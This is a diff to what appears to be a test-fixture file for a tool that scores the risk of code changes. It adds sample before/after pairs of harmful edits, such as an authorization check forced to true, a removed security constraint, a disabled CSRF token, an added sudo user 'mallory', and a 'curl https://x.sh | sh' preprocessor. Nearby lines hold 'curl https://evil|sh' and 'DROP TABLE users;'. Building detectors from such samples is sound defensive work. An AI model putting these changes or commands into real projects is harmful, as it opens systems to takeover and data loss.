@@ -960,6 +960,85 @@ HARM: list[tuple[str, str | None, str, int]] = [
         "<?php\nclass JConfig {\n    public $debug = true;\n}\n",
         2,
     ),
+    (
+        "core/src/it/banca/conti/auth/AuthorizationFilter.java",
+        "class A {\n  boolean allowed(User u) {\n    return u.isAdmin();\n  }\n}\n",
+        "class A {\n  boolean allowed(User u) {\n    return true;\n  }\n}\n",
+        3,
+    ),
+    (
+        "src/site/webapp/WEB-INF/web.xml",
+        "<web-app>\n  <security-constraint>\n    <auth-constraint><role-name>admin</role-name></auth-constraint>\n  </security-constraint>\n</web-app>\n",
+        "<web-app>\n</web-app>\n",
+        3,
+    ),
+    (
+        "app/templates/pay.html",
+        '<form method="post">\n{% csrf_token %}\n</form>\n',
+        '<form method="post">\n{# {% csrf_token %} #}\n</form>\n',
+        3,
+    ),
+    (
+        "app/templates/pay.html",
+        '<form method="get">\n<p>\n</form>\n<form method="post">\n{% csrf_token %}\n</form>\n',
+        '<p>\n<form method="post">\n</form>\n',
+        3,
+    ),
+    (
+        "roles/users/tasks/main.yml",
+        '- name: keys\n  user:\n    name: "{{ item.name }}"\n  loop:\n    - name: alice\n      groups: sudo\n',
+        '- name: keys\n  user:\n    name: "{{ item.name }}"\n  loop:\n    - name: mallory\n      groups: sudo\n',
+        2,
+    ),
+    (
+        "playbooks/site.yml",
+        "- hosts: all\n  become: true\n  roles:\n    - name: base\n",
+        "- hosts: all\n  become: true\n  roles:\n    - name: other\n",
+        3,
+    ),
+    (
+        "playbooks/site.yml",
+        "- hosts: all\n  vars:\n    admins:\n    - name: alice\n  tasks:\n    - name: x\n      user: name=x\n",
+        "- hosts: all\n  vars:\n    admins:\n    - name: mallory\n  tasks:\n    - name: x\n      user: name=x\n",
+        3,
+    ),
+    (
+        "action.yml",
+        "name: a\ndescription: b\ninputs:\n  script:\n    default: |\n      echo\n      description: x\nruns:\n  using: composite\n",
+        "name: a\ndescription: b\ninputs:\n  script:\n    default: |\n      echo\n      description: curl x.sh\nruns:\n  using: composite\n",
+        3,
+    ),
+    (
+        "frontend/app/things.tsx",
+        "import { useQuery } from 'react-query';\nexport async function loader({ request }) {\n  return items.findMany({ where: { userId: request.user.id } })\n}\n",
+        "import { useQuery } from 'react-query';\nexport async function loader({ request }) {\n  return items.findMany({ where: {} })\n}\n",
+        3,
+    ),
+    (
+        "book.toml",
+        '[book]\ntitle = "a"\n',
+        '[book]\ntitle = "a"\n[preprocessor.x]\ncommand = "curl https://x.sh | sh"\n',
+        2,
+    ),
+    (
+        "tests/deploy.Jenkinsfile",
+        "pipeline { stages { stage('a') { steps { sh 'make' } } } }\n",
+        "pipeline { stages { stage('a') { steps { sh 'make deploy' } } } }\n",
+        2,
+    ),
+    (
+        ".github/workflows/release.yml",
+        "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: goreleaser/goreleaser-action@v6\n        with:\n          args: release --snapshot\n",
+        "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: goreleaser/goreleaser-action@v6\n        with:\n          args: release --snapshot=false\n",
+        4,
+    ),
+    (
+        "api/v1/cluster_types.go",
+        'type Config struct {\n\tSize int `json:"size"`\n}\n',
+        'type Config struct {\n\tSize string `json:"size"`\n}\n',
+        2,
+    ),
+    ("etc/ca.pem", "-----BEGIN CERTIFICATE-----\nMIIA\n-----END CERTIFICATE-----\n", "# none\n", 3),
 ]
 
 
@@ -980,6 +1059,8 @@ RENAMED = [
     (".envrc.sh", ".envrc", RUN, 4),
     ("scripts/x.py.sh", "scripts/x.py", "#!/bin/sh\nimport os\nos.system('curl https://evil|sh')\n", 3),
     ("db/migrate/001_drop.sql.sh", "db/migrate/001_drop.sql", "#! x\nDROP TABLE users;\n", 4),
+    ("deploy/bin/pg_reset.sh", "deploy/bin/pg_reset", RUN, 3),
+    ("scripts/pre-commit.sh", "scripts/pre-commit", RUN, 3),
     ("Makefile.sh", "Makefile", "#!/bin/make\nall:\n\tcurl https://evil | sh\n", 3),
 ]
 """What is read, or run, by its name alone."""
